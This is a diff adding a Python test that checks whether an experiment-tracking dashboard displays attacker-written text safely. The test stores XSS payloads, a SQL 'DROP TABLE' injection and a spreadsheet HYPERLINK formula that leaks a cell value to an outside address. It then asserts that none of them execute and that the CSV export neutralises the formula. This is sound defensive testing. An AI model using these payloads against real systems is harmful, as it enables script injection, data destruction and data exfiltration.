@@ -1,0 +1,46 @@
+"""A database whose every text was written by somebody who wishes us ill."""
+
+import csv
+
+from sqlalchemy import create_engine, text
+
+ILL = (
+    '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
+    "[a](javascript:window.pwned=1) ![b](http://192.0.2.1/c.png) :red[d] $e$ `f` **g** "
+    "'; DROP TABLE trials; --"
+)
+FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1)'
+
+
+def test_hostile_texts_are_shown_as_they_are(tmp_path, new_search, serve, visit):
+    url = f"sqlite:///{tmp_path}/nas.db"
+    search = new_search(url, ILL, "resnet", sampler="random", scheduler="none", trials=4)
+    search.run(failing={1: ILL, 2: FORMULA})
+    with create_engine(url).begin() as connection:
+        changed = connection.execute(
+            text("UPDATE nas_attempts SET host = :ill, device = :ill, owner = :ill"), {"ill": ILL}
+        )
+        assert changed.rowcount
+        connection.execute(
+            text("UPDATE nas_studies SET space = json_set(space, '$.name', :ill)"), {"ill": ILL}
+        )
+    with serve(url, tmp_path) as (address, _, _):
+        visitor = visit(address)
+        browser = visitor.browser
+        for title in (
+            "Progress", "Trials", "Learning curves", "Accuracy and cost", "Architectures", "Knobs",
+            "Failures", "Workers", "Run it again", "Compare studies",
+        ):  # fmt: skip
+            visitor.go(title)
+            if title != "Compare studies":
+                assert ILL in visitor.content(), title
+            assert browser.driver.execute_script("return window.pwned") is None
+            assert not browser.all("[data-testid=stMain] a[href^=javascript]")
+            assert not browser.all("img[src*='192.0.2.1'], img[onerror]")
+        visitor.go("Trials")
+        visitor.press("Download CSV")
+        with browser.downloaded("trials.csv").open() as file:
+            rows = list(csv.DictReader(file))
+        assert visitor.complaints() == []
+    assert [row["reason"] for row in rows][1:3] == [ILL, f"'{FORMULA}"]
+    assert {row["study"] for row in rows} == {ILL}
